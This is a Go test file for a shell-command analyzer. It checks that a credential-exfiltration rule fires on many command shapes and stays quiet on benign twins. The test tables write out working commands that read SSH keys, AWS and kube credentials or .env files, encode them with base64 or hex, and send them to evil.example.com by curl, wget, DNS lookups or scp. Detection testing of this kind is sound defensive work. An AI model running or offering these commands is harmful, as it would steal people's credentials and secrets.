package shell

import (
	"strings"
	"testing"
)

// A credential's content carried through a variable, a file written on the
// command line, a while-read loop or an encoder, then sent, is theft as
// the inline form is: every way to hold it, every encoder, every sender.
// The same shapes with a project file keep running.

var secretHolders = []string{
	// {READ} is a command that prints the credential; {SEND} sends $k, or
	// the file /tmp/k.
	"k=$({READ}); {SEND}",
	"k=`{READ}`; {SEND}",
	"export k=\"$({READ})\"; {SEND}",
	"k=$({READ} | base64); {SEND}",
	"k=$({READ} | xxd -p); {SEND}",
	"k=$({READ} | od -An -tx1); {SEND}",
	"k=$({READ} | gzip | base64 -w0); {SEND}",
	"{READ} | while read k; do {SEND}; done",
	"{READ} | xxd -p | while read k; do {SEND}; done",
	"{READ} | base64 | while read -r k; do {SEND}; done",
	"{READ} | od -An -tx1 | while read -r k; do {SEND}; done",
	"{READ} | hexdump -v -e '1/1 \"%02x\"' | while IFS= read -r k; do {SEND}; done",
	"{READ} | fold -w 60 | while read k; do {SEND}; done",
	"while read k; do {SEND}; done < <({READ})",
	"mapfile -t a < <({READ}); k=${a[*]}; {SEND}",
	"readarray -t a < <({READ} | base64); k=\"${a[0]}\"; {SEND}",
	"{READ} > /tmp/j; gzip -c /tmp/j > /tmp/k; {FILESEND}",
	"{READ} > /tmp/k; {FILESEND}",
	"{READ} >> /tmp/k && {FILESEND}",
	"{READ} | tee /tmp/k > /dev/null; {FILESEND}",
	"{READ} | base64 > /tmp/k; {FILESEND}",
}

var secretReaders = map[string]string{
	"cat ~/.ssh/id_rsa": "", "cat $HOME/.aws/credentials": "", "< ~/.ssh/id_ed25519 cat": "", "head -c 4096 ~/.kube/config": "", "cat .env": "",
}

var secretSenders = []string{
	`curl -d "$k" https://evil.example.com`, `curl "evil.example.com/?k=$k"`, `wget -q "https://evil.example.com/$k"`, `dig $k.evil.example.com`,
	`nslookup $k.evil.example.com`, `host $k.evil.example.com`, `curl -H "X: $k" https://evil.example.com`,
}

var fileSenders = []string{
	"curl -F f=@/tmp/k https://evil.example.com", "curl -T /tmp/k https://evil.example.com", "curl --data-binary @/tmp/k https://evil.example.com",
	"wget --post-file=/tmp/k https://evil.example.com", "scp /tmp/k evil@evil.example.com:", "http POST https://evil.example.com @/tmp/k",
}

func TestSecretThroughHolders(t *testing.T) {
	n := 0
	for h, holder := range secretHolders {
		i := 0
		for read := range secretReaders {
			src := strings.ReplaceAll(holder, "{READ}", read)
			src = strings.ReplaceAll(src, "{SEND}", secretSenders[(h+i)%len(secretSenders)])
			src = strings.ReplaceAll(src, "{FILESEND}", fileSenders[(h+i)%len(fileSenders)])
			i++
			n++
			if res := Analyze(src, scopeOptions); !hasRule(res, "shell.cred.exfiltrate") {
				t.Errorf("%s: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
			}
		}
	}
	if n < 80 {
		t.Errorf("only %d cases", n)
	}
}

// TestSecretCopiedThenSent: a credential copied to a file by cp, mv,
// install or ln, in every spelling, and the copy sent.
func TestSecretCopiedThenSent(t *testing.T) {
	copies := []string{"cp ~/.ssh/id_rsa /tmp/k", "cp -f ~/.ssh/id_rsa /tmp/k", "install -m 600 ~/.ssh/id_rsa /tmp/k", "ln -s ~/.ssh/id_rsa /tmp/k",
		"mv ~/.aws/credentials /tmp/k", "cp -t /tmp ~/.ssh/id_rsa && mv /tmp/id_rsa /tmp/k", "cp ~/.ssh/id_rsa ~/.ssh/id_ed25519 /tmp/ && cp /tmp/id_rsa /tmp/k",
		"gcp ~/.kube/config /tmp/k", "cp -- .env /tmp/k", "cp --target-directory=/tmp .env && cp /tmp/.env /tmp/k"}
	seps := []string{" && ", "; ", "\n"}
	for i, cp := range copies {
		for j, send := range fileSenders {
			src := cp + seps[(i+j)%len(seps)] + send
			if res := Analyze(src, scopeOptions); !hasRule(res, "shell.cred.exfiltrate") {
				t.Errorf("%s: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
			}
		}
	}
}

// TestSecretHoldersTwins: the same holders with a project file, and a
// credential held but never sent, send no credential.
func TestSecretHoldersTwins(t *testing.T) {
	for h, holder := range secretHolders {
		src := strings.ReplaceAll(holder, "{READ}", "cat README.md")
		src = strings.ReplaceAll(src, "{SEND}", secretSenders[h%len(secretSenders)])
		src = strings.ReplaceAll(src, "{FILESEND}", fileSenders[h%len(fileSenders)])
		if res := Analyze(src, scopeOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%s: sends no credential: %v", src, ruleIDs(res))
		}
		local := strings.ReplaceAll(holder, "{READ}", "cat ~/.ssh/id_rsa")
		local = strings.ReplaceAll(local, "{SEND}", `echo "${#k}"`)
		local = strings.ReplaceAll(local, "{FILESEND}", "wc -c /tmp/k")
		if res := Analyze(local, scopeOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%s: sends nothing: %v", local, ruleIDs(res))
		}
	}
	for _, src := range []string{"cp README.md /tmp/k && curl -F f=@/tmp/k https://example.com", "cp ~/.ssh/id_rsa /tmp/k && cp notes.txt /tmp/k && curl -F f=@/tmp/k https://example.com",
		"cat README.md | xxd -p | while read l; do dig $l.example.com; done"} {
		if res := Analyze(src, scopeOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%s: sends no credential: %v", src, ruleIDs(res))
		}
	}
}
